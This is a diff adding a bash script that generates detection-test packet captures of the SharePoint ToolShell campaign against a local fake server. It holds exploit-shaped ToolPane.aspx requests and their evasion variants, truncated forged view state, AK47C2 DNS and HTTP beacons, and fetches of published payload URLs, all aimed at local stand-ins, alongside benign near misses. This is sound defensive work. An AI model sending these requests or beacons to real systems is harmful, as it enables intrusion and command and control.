@@ -1,0 +1,381 @@
+#!/bin/bash
+# toolshell.sh [CASE ...] — captures of the SharePoint ToolShell campaign, pcaps/toolshell/.
+#
+# clients   curl, dig, raw.py        server  server.py as IIS with SharePoint, dnsmasq
+# source    rules/toolshell.yaml cites what the shapes follow
+PCAPS=toolshell
+. "$(dirname "$0")/lib.sh"
+sc_up
+
+FIREFOX='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0'
+EDGE='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0'
+HOST=sp.corp.example
+B=http://$HOST
+FORM='Content-Type: application/x-www-form-urlencoded'
+SPOKE="$CURL_V as the client, tools/capture/server.py ($PY_V) answering as IIS 10 with SharePoint headers"
+sp() { web --resolve "$HOST:80:$RIGHT" -A "$FIREFOX" "$@"; }
+$SHAPES toolpane-form >"$SC_TMP/form"
+$SHAPES toolpane-form large >"$SC_TMP/form-large"
+$SHAPES toolpane-form string >"$SC_TMP/form-string"
+QUERY='DisplayMode=Edit&a=/ToolPane.aspx'
+exploit() { local url=$1 referer=$2; shift 2; sp -H "Referer: $referer" -H "$FORM" --data-binary "@$SC_TMP/form" "$@" "$B$url"; }
+serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80
+
+if wants classic; then
+  begin classic
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx
+  end
+  note "ToolShell: the request as first seen" \
+    "one POST to ToolPane.aspx with a relative SignOut Referer; form with MSOTlPn_Uri and MSOTlPn_DWP, whose CompressedDataTable names a type that does not exist" \
+    "$SPOKE" "toolshell.toolpane-signout once, toolshell.exceldataset once" "anything about keys, view state or command and control"
+fi
+
+if wants path-variants; then
+  begin path-variants
+  for p in "/_layouts/15/ToolPane.aspx/?$QUERY" "/_layouts/15/ToolPane.aspx/xkqvbzrtla?$QUERY" "/_layouts/16/ToolPane.aspx?$QUERY" \
+      "/_layouts/ToolPane.aspx?$QUERY" "/sites/hr/_layouts/15/toolpane.aspx?a=1&DisplayMode=Edit&x=/toolpane.aspx" \
+      "/%5Flayouts/15/Tool%50ane%2Easpx?$QUERY" "/_layouts/15/../15/./ToolPane.aspx?$QUERY" "//_layouts//15/TOOLPANE.ASPX?$QUERY"; do
+    exploit "$p" /_layouts/SignOut.aspx
+  done
+  end
+  note "ToolShell: the same page by other names" \
+    "eight requests: trailing slash and trailing segment (CVE-2025-53771), /16/, no version, below a site and lower case, percent-encoding, dot segments, double slashes and upper case" \
+    "$SPOKE" "toolshell.toolpane-signout eight times" "-"
+fi
+
+if wants referer-variants; then
+  begin referer-variants
+  for r in "https://$HOST/_layouts/SignOut.aspx" /_layouts/15/SignOut.aspx /_layouts/14/signout.aspx SignOut.aspx ../SignOut.aspx \
+      "/_layouts/x/../SignOut.aspx?ReturnUrl=%2F" "//other.example/_layouts/SignOut.aspx#top" "/_layouts/Sign%4Fut.aspx"; do
+    exploit "/_layouts/15/ToolPane.aspx?$QUERY" "$r"
+  done
+  end
+  note "ToolShell: the Referer in other forms" \
+    "eight requests whose Referer gives the sign-out page only after resolution against the request: absolute, other hives, relative, dot segments with a query, other authority with a fragment, percent-encoded letter" \
+    "$SPOKE" "toolshell.toolpane-signout eight times" "-"
+fi
+
+if wants referer-near; then
+  begin referer-near
+  for r in "https://$HOST/SitePages/Home.aspx?from=/_layouts/SignOut.aspx" /docs/_layouts-SignOut.aspx.html "https://$HOST/_layouts/15/SignOut.aspx.txt"; do
+    sp -A "$EDGE" -H "Referer: $r" -H 'Cookie: FedAuth=inert' -H "$FORM" --data-urlencode "MSOTlPn_Uri=$($SHAPES control)" \
+      --data-urlencode 'MSOTlPn_DWP=<%@ Register Tagprefix="WebPartPages" Namespace="Microsoft.SharePoint.WebPartPages" Assembly="Microsoft.SharePoint" %><WebPartPages:ContentEditorWebPart runat="server" Title="News" />' \
+      "$B/_layouts/15/ToolPane.aspx?$QUERY"
+  done
+  end
+  note "Near miss: sign-out page only mentioned in the Referer" \
+    "three edits of a page whose Referer has the sign-out path in its query, in another file name, or as a prefix; the web part is an ordinary one" \
+    "$SPOKE" "-" "every rule of toolshell"
+fi
+
+if wants dataset-plain; then
+  begin dataset-plain
+  sp -A "$EDGE" -H "Referer: $B/SitePages/Scorecards.aspx" -H 'Cookie: FedAuth=inert; rtFa=inert' -H "$FORM" --data-binary "@$SC_TMP/form-string" \
+    "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit"
+  end
+  note "A scorecard's data set from a signed-in editor" \
+    "the form with an ordinary DataSet (column type System.String), no blank after the namespace, cookies, the edited page as Referer" \
+    "$SPOKE" "toolshell.exceldataset once: the control is the sink of the attack whoever sends it, and pages with it are rare" "toolshell.toolpane-signout, toolshell.register-blank"
+fi
+
+if wants chunked-gzip; then
+  begin chunked-gzip
+  $SHAPES gzip <"$SC_TMP/form-large" >"$SC_TMP/form.gz"
+  sp -H "Referer: /_layouts/SignOut.aspx" -H "$FORM" -H 'Transfer-Encoding: chunked' -H 'Content-Encoding: gzip' \
+    --data-binary "@$SC_TMP/form.gz" "$B/_layouts/15/ToolPane.aspx?$QUERY"
+  end
+  note "ToolShell: body chunked and compressed" "the request with Transfer-Encoding: chunked and Content-Encoding: gzip on the form" \
+    "$SPOKE" "toolshell.toolpane-signout once, toolshell.exceldataset once (only after dechunking and gunzip)" "-"
+fi
+
+if wants multipart; then
+  begin multipart
+  $SHAPES dwp >"$SC_TMP/dwp"
+  sp -H "Referer: /_layouts/SignOut.aspx" -F "MSOTlPn_Uri=$($SHAPES control)" -F "MSOTlPn_DWP=<$SC_TMP/dwp" "$B/_layouts/15/ToolPane.aspx?$QUERY"
+  end
+  note "ToolShell: form as multipart/form-data" "the same two parameters as multipart parts" \
+    "$SPOKE" "toolshell.toolpane-signout once, toolshell.exceldataset once" "-"
+fi
+
+if wants expect-continue; then
+  begin expect-continue
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx -H 'Expect: 100-continue' --data-binary "@$SC_TMP/form-large"
+  end
+  note "ToolShell: body after 100 Continue" "the client waits for 100 Continue before it sends the form" \
+    "$SPOKE" "toolshell.toolpane-signout once, toolshell.exceldataset once" "-"
+fi
+
+if wants pipelined; then
+  begin pipelined
+  {
+    for p in / /_layouts/15/start.aspx; do printf 'GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n\r\n' "$p" $HOST "$FIREFOX"; done
+    printf 'POST /_layouts/15/ToolPane.aspx?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: /_layouts/SignOut.aspx\r\n%s\r\nContent-Length: %s\r\n\r\n' \
+      "$QUERY" $HOST "$FIREFOX" "$FORM" "$(stat -c %s "$SC_TMP/form")"
+    cat "$SC_TMP/form"
+    printf 'GET /_layouts/15/spinstall0.aspx HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n' $HOST "$FIREFOX"
+  } >"$SC_TMP/pipe"
+  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/pipe"
+  end
+  note "ToolShell: third and fourth of four pipelined requests" \
+    "four requests in one write: home page, start page, the exploit, the key page" \
+    "tools/capture/raw.py ($PY_V), server.py" \
+    "toolshell.toolpane-signout once (request 3), toolshell.exceldataset once, toolshell.machinekey-leak once and toolshell.drop-name once (request 4)" "-"
+fi
+
+if wants split; then
+  begin split
+  {
+    printf 'POST /_layouts/15/ToolPane.aspx?%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nReferer: /_layouts/SignOut.aspx\r\n%s\r\nContent-Length: %s\r\nConnection: close\r\n\r\n' \
+      "$QUERY" $HOST "$FIREFOX" "$FORM" "$(stat -c %s "$SC_TMP/form")"
+    cat "$SC_TMP/form"
+  } >"$SC_TMP/split"
+  left "$PY" "$SC_HERE/raw.py" $RIGHT 80 "$SC_TMP/split" 1 11
+  end
+  note "ToolShell: eleven bytes per segment" "the classic request written eleven bytes at a time, no delay of small segments" \
+    "tools/capture/raw.py ($PY_V), server.py" "toolshell.toolpane-signout once, toolshell.exceldataset once" "-"
+fi
+
+if wants patched; then
+  begin patched
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx -H 'X-Test-Answer: 401'
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx -H 'X-Test-Answer: nuclei'
+  end
+  note "ToolShell: a refused attempt and a scanner that succeeds" \
+    "first request answered 401 as a patched server does, second answered with the response header that a public scanner template asks for" \
+    "$SPOKE" "toolshell.toolpane-signout twice, toolshell.exceldataset twice, toolshell.scanner-marker once" "-"
+fi
+
+if wants toolpane-benign; then
+  begin toolpane-benign
+  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx?PageView=Shared&DisplayMode=Edit" -H 'Cookie: FedAuth=inert; rtFa=inert' -H "$FORM" \
+    --data 'MSOTlPn_View=2&MSOTlPn_ShowSettings=False&MSOTlPn_SelectedWpId=g_6b1c&MSOTlPn_Button=apply' \
+    "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit&ToolPaneView=2&pagetype=1"
+  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx" -H 'Cookie: FedAuth=inert; rtFa=inert' "$B/_layouts/15/ToolPane.aspx?ToolPaneView=2"
+  end
+  note "Near miss: a signed-in editor uses the tool pane" \
+    "POST and GET of ToolPane.aspx with cookies and the edited page as Referer" "$SPOKE" "-" "every rule of toolshell"
+fi
+
+if wants signout-benign; then
+  begin signout-benign
+  sp -A "$EDGE" -H "Referer: $B/SitePages/Home.aspx" -H 'Cookie: FedAuth=inert' "$B/_layouts/15/SignOut.aspx"
+  for p in /_layouts/15/1033/styles/corev15.css /_layouts/15/init.js; do sp -A "$EDGE" -H "Referer: $B/_layouts/15/SignOut.aspx" "$B$p"; done
+  sp -A "$EDGE" -H "Referer: $B/_layouts/15/SignOut.aspx" "$B/_layouts/15/start.aspx"
+  end
+  note "Near miss: browsing after signing out" \
+    "the sign-out page, its style sheet and script, and the start page reached from it, all with the sign-out page as Referer" \
+    "$SPOKE" "-" "every rule of toolshell"
+fi
+
+if wants signout-other; then
+  begin signout-other
+  sp -H 'Referer: /_layouts/SignOut.aspx' -H 'Content-Type: text/xml' --data '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>' \
+    "$B/_vti_bin/WebPartPages.asmx"
+  sp -H 'Referer: /_layouts/15/SignOut.aspx' "$B/_api/web/currentuser"
+  end
+  note "ToolShell: the same Referer on other endpoints" \
+    "POST to a web service and GET of the REST interface with the sign-out Referer and no credentials" \
+    "$SPOKE" "toolshell.signout-elsewhere twice" "toolshell.toolpane-signout"
+fi
+
+if wants drop-names; then
+  begin drop-names
+  sp "$B/_layouts/15/ghostfile93.aspx"
+  sp "$B/_layouts/16/spinstall2.aspx"
+  sp -H "Referer: /_layouts/SignOut.aspx" "$B/_layouts/15/spinstall0.aspx"
+  sp "$B/SiteAssets/my-spinstall0.aspx.txt"
+  end
+  note "ToolShell: dropped pages asked for by name" \
+    "three published names under the layouts folder (404, 404, 200 with fake keys) and one name that only contains one" \
+    "$SPOKE" "toolshell.drop-name three times, toolshell.machinekey-leak once" "toolshell.drop-name for the fourth request"
+fi
+
+if wants key-leak; then
+  begin key-leak
+  sp "$B/_layouts/15/help-a1.aspx"
+  sp "$B/_layouts/15/debug_dev.js"
+  sp "$B/_layouts/15/ToolPane.aspx?DisplayMode=Edit" -H 'X-Test-Answer: keys'
+  end
+  note "ToolShell: machine keys leave the server" \
+    "made-up keys in three forms: the five-field line under an unknown name (gzip and chunked), a web.config's machineKey element, the line at the start of an ordinary answer" \
+    "$SPOKE" "toolshell.machinekey-leak three times" "toolshell.drop-name for the first; it has no known name"
+fi
+
+if wants key-docs; then
+  begin key-docs
+  sp "$B/help/machinekey.aspx"
+  end
+  note "Near miss: a page about machine keys" "documentation with AutoGenerate and placeholders instead of keys, and the words of the leak line without the digits" \
+    "$SPOKE" "-" "toolshell.machinekey-leak"
+fi
+
+post_viewstate() { $SHAPES viewstate-form "$@" >"$SC_TMP/vs"; sp -H "$FORM" --data-binary "@$SC_TMP/vs" "$B/_layouts/15/success.aspx"; }
+viewstate_case() { # case, title, shows, fires, silent, shapes arguments...
+  local name=$1 title=$2 shows=$3 fires=$4 silent=$5
+  shift 5
+  wants "$name" || return 0
+  begin "$name"
+  post_viewstate "$@"
+  end
+  note "$title" "$shows" "$SPOKE" "$fires" "$silent"
+}
+CUT="a .NET stream that stops after the name of a class attackers use"
+viewstate_case viewstate-root "View state: binary object at the root" "token 0x32 first, in it $CUT; 20 bytes of made-up MAC" \
+  "toolshell.viewstate-gadget once" "-" root
+viewstate_case viewstate-sha256 "View state: binary object at the root, 32-byte MAC" "as viewstate-root with the tail of HMACSHA256" \
+  "toolshell.viewstate-gadget once" "-" sha256
+viewstate_case viewstate-nested "View state: binary object inside a Pair" "the object below Pair, Pair and ArrayList, so that the value does not begin with /wEy; $CUT" \
+  "toolshell.viewstate-gadget once" "-" nested
+viewstate_case viewstate-list "View state: binary object inside an ArrayList" "the object as first element of a list; $CUT" \
+  "toolshell.viewstate-gadget once" "-" list
+viewstate_case viewstate-chunks "View state in three fields" "__VIEWSTATEFIELDCOUNT 3; the base64 is cut at places that are no multiples of four; $CUT" \
+  "toolshell.viewstate-gadget once" "-" root A4E1B2C3 3
+viewstate_case viewstate-large "View state over 16 KiB" "length of the object in three bytes, so base64 alignment is another one; $CUT, then filler" \
+  "toolshell.viewstate-gadget once" "-" large
+viewstate_case viewstate-encrypted "View state that cannot be read" "random bytes and __VIEWSTATEENCRYPTED, sent by the client without the page having it" \
+  "toolshell.viewstate-opaque once" "toolshell.viewstate-gadget" opaque A4E1B2C3 1 __VIEWSTATEENCRYPTED=
+viewstate_case viewstate-benign "Near miss: view state of a SharePoint page" \
+  "a complete graph of Pair, ArrayList, indexed strings and SPControlMode as IntEnum, with the usual other fields of the form" \
+  "-" "every rule of toolshell" benign CA11AB1E 1 'MSOWebPartPage_Shared=&MSOLayout_InDesignMode=&__EVENTTARGET=&__EVENTARGUMENT=&_wzSelected='
+viewstate_case viewstate-hashtable "Near miss: a harmless Hashtable as binary object" \
+  "token 0x32 deep in the graph holding a complete empty System.Collections.Hashtable" \
+  "toolshell.viewstate-binary once: a binary object deserves a look" "toolshell.viewstate-gadget" hashtable
+
+if wants viewstate-query; then
+  begin viewstate-query
+  sp "$B/_layouts/15/success.aspx?$($SHAPES viewstate-form root)"
+  end
+  note "View state in the query of a GET" "the forged value as a parameter of the query; $CUT" "$SPOKE" "toolshell.viewstate-gadget once" "-"
+fi
+if wants viewstate-multipart; then
+  begin viewstate-multipart
+  $SHAPES viewstate root >"$SC_TMP/vsraw"
+  sp -F "__VIEWSTATE=<$SC_TMP/vsraw" -F __VIEWSTATEGENERATOR=A4E1B2C3 "$B/_layouts/15/success.aspx"
+  end
+  note "View state in a multipart form" "the forged value as a multipart part; $CUT" "$SPOKE" "toolshell.viewstate-gadget once" "-"
+fi
+if wants adjacent; then
+  begin adjacent
+  sp -H "$FORM" --data-urlencode "__SUGGESTIONSCACHE__=<DataSet>inert</DataSet>" "$B/_layouts/15/quicklinks.aspx?Mode=Suggestion"
+  sp -H "$FORM" --data-urlencode 'wa=wsignin1.0' --data-urlencode 'wctx=inert' \
+    --data-urlencode 'wresult=<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><c:SecurityContextToken xmlns:c="http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512"><Cookie xmlns="http://schemas.microsoft.com/ws/2006/05/security">aW5lcnQ=</Cookie></c:SecurityContextToken></t:RequestSecurityTokenResponse>' \
+    "$B/_trust/default.aspx"
+  sp -H "$FORM" --data-urlencode 'wa=wsignin1.0' --data-urlencode 'wctx=inert' \
+    --data-urlencode 'wresult=<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:RequestedSecurityToken><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"/></t:RequestedSecurityToken></t:RequestSecurityTokenResponse>' \
+    "$B/_trust/default.aspx"
+  end
+  note "SharePoint: neighbours of the campaign" \
+    "a suggestions cache posted to quicklinks.aspx (CVE-2020-1147), a sign-in answer that carries a security context token with a cookie (CVE-2026-50522), and an ordinary SAML sign-in" \
+    "$SPOKE" "toolshell.suggestions-cache once, toolshell.trust-cookie once" "anything for the third request"
+fi
+unserve
+
+# --- command and control -------------------------------------------------------------------------------------------
+DNSMASQ_V=$(dnsmasq --version | sed -n '1s/Dnsmasq version \([^ ]*\).*/dnsmasq \1/p')
+DIG_V=$(dig -v 2>&1 | sed 's/^DiG /dig /; s/-.*//')
+N3=$($SHAPES ak47-name 202503) N4=$($SHAPES ak47-name 202504) ANSWER=$($SHAPES ak47-answer)
+cat >"$SC_TMP/dns.conf" <<END
+no-resolv
+no-hosts
+no-daemon
+user=root
+port=53
+bind-interfaces
+listen-address=$RIGHT
+local=/updatemicfosoft.com/
+local=/example.net/
+txt-record=$N3,"$ANSWER"
+txt-record=$N4,"$ANSWER"
+dns-rr=$N4,8,$(printf '%s' "$ANSWER" | xxd -p | tr -d '\n' | cut -c1-200)
+address=/update.updatemicfosoft.com/131.226.2.6
+address=/updatemicfosoft.example.net/192.0.2.9
+address=/notupdatemicfosoft.com/192.0.2.10
+txt-record=67616263646566.example.net,"inert"
+END
+ask() { left dig +time=2 +tries=1 +noedns @$RIGHT "$@" >/dev/null || true; }
+
+serve right 53 dnsmasq -C "$SC_TMP/dns.conf" --pid-file="$SC_TMP/dnsmasq.pid"
+if wants ak47-dns; then
+  begin ak47-dns
+  ask "$N3" TXT
+  ask "$N4" TXT
+  ask "$N4" TYPE8
+  ask update.updatemicfosoft.com A
+  end 2025-07-22T08:00:00Z
+  note "AK47C2 over DNS" \
+    "TXT queries in the two published codings (XOR with the published key, hex labels) with an empty command as answer, an MG query, and an address query of the published name" \
+    "$DIG_V, $DNSMASQ_V" "toolshell.ak47-dns for the coded names, toolshell.mg-query once, toolshell.c2-domain for all four names" "-"
+fi
+if wants ak47-dns-near; then
+  begin ak47-dns-near
+  ask updatemicfosoft.example.net A
+  ask notupdatemicfosoft.com A
+  ask 67616263646566.example.net TXT
+  ask d41d8cd98f00b204e9800998ecf8427e.avqs.example.net TXT
+  end 2025-07-22T08:10:00Z
+  note "Near miss: names that look like AK47C2" "the published name as a label of another domain, as the end of a longer label, and hex labels of other services" \
+    "$DIG_V, $DNSMASQ_V" "-" "every rule of toolshell"
+fi
+unserve
+
+serve right 80 "$PY" "$SC_HERE/server.py" ak47 80
+if wants ak47-http; then
+  begin ak47-http
+  $SHAPES ak47-http >"$SC_TMP/ak"
+  web --resolve update.updatemicfosoft.com:80:$RIGHT -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" http://update.updatemicfosoft.com/
+  web -A '' -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/ak" "http://$RIGHT/"
+  end 2025-07-22T08:20:00Z
+  note "AK47C2 over HTTP" "the JSON beacon XORed and in hex as text/plain, once to the published name and once to a bare address" \
+    "$CURL_V, server.py" "toolshell.ak47-http twice, toolshell.c2-domain once" "-"
+fi
+if wants ak47-http-near; then
+  begin ak47-http-near
+  printf '2d6a2129246a6c6a7f' >"$SC_TMP/near"
+  web -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/near" "http://$RIGHT/"
+  sha256sum <"$SC_TMP/near" | cut -c1-64 >"$SC_TMP/near2"
+  web -H 'Content-Type: text/plain' --data-binary "@$SC_TMP/near2" "http://$RIGHT/metrics"
+  end 2025-07-22T08:30:00Z
+  note "Near miss: hex bodies" "a body with only the first bytes of the constant and a digest as text/plain" "$CURL_V, server.py" "-" "toolshell.ak47-http"
+fi
+if wants payload-hosts; then
+  begin payload-hosts
+  web --resolve ice.theinnovationfactory.it:80:$RIGHT -A '' http://ice.theinnovationfactory.it/static/4l4md4r.exe
+  web --resolve c34718cbb4c6.ngrok-free.app:80:$RIGHT -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1' http://c34718cbb4c6.ngrok-free.app/file.ps1
+  web --resolve www.theinnovationfactory.it:80:$RIGHT -A "$EDGE" http://www.theinnovationfactory.it/
+  web --resolve a1b2c3d4.ngrok-free.app:80:$RIGHT -A "$EDGE" http://a1b2c3d4.ngrok-free.app/
+  end 2025-07-27T06:00:00Z
+  note "ToolShell: where payloads came from" \
+    "the two published delivery hosts, then the innocent parent domain and another tunnel of the same provider" \
+    "$CURL_V, server.py" "toolshell.delivery-host twice" "anything for the last two requests"
+fi
+unserve
+
+if wants chain; then
+  SC_CASE=chain
+  say toolshell/chain
+  left_ip 10.77.1.66; left_ip 10.77.1.67; left_ip 10.77.3.53
+  serve right 80 "$PY" "$SC_HERE/server.py" sharepoint 80; WEBS=$SC_SERVER
+  sed "s/listen-address=.*/listen-address=10.77.3.53/" "$SC_TMP/dns.conf" >"$SC_TMP/dns2.conf"
+  serve left 53 dnsmasq -C "$SC_TMP/dns2.conf" --pid-file="$SC_TMP/dnsmasq2.pid"; DNSS=$SC_SERVER
+  rec "$SC_TMP/c1.raw"
+  exploit "/_layouts/15/ToolPane.aspx?$QUERY" /_layouts/SignOut.aspx --interface 10.77.1.66
+  sp --interface 10.77.1.66 -H 'Referer: /_layouts/SignOut.aspx' "$B/_layouts/15/spinstall0.aspx"
+  rec_end
+  rec "$SC_TMP/c2.raw"
+  sp --interface 10.77.1.67 "$B/_layouts/15/start.aspx"
+  $SHAPES viewstate-form root >"$SC_TMP/vs"
+  sp --interface 10.77.1.67 -H "$FORM" --data-binary "@$SC_TMP/vs" "$B/_layouts/15/start.aspx"
+  rec_end
+  rec "$SC_TMP/c3.raw"
+  right dig +time=2 +tries=1 +noedns @10.77.3.53 "$N4" TXT >/dev/null
+  right dig +time=2 +tries=1 +noedns @10.77.3.53 "$N4" TYPE8 >/dev/null
+  rec_end
+  unserve "$WEBS"; unserve "$DNSS"
+  mkdir -p "$SC_TOP/pcaps/toolshell"
+  "$PY" "$SC_HERE/settle.py" -o "$SC_TOP/pcaps/toolshell/chain.pcap" 2025-07-18T18:06:00Z "$SC_TMP/c1.raw" \
+    2025-07-19T21:40:00Z "$SC_TMP/c2.raw" 2025-07-20T02:15:00Z "$SC_TMP/c3.raw"
+  note "ToolShell from the first request to command and control" \
+    "three recordings on one server, hours apart: exploit and key page from 10.77.1.66; a day later forged view state from 10.77.1.67; then the server itself (10.77.2.10) asks for AK47C2 names" \
+    "$CURL_V, $DIG_V, server.py, $DNSMASQ_V; recorded one after the other, times set to the pieces" \
+    "every stage, and toolshell.takeover once, by server address" "-"
+fi
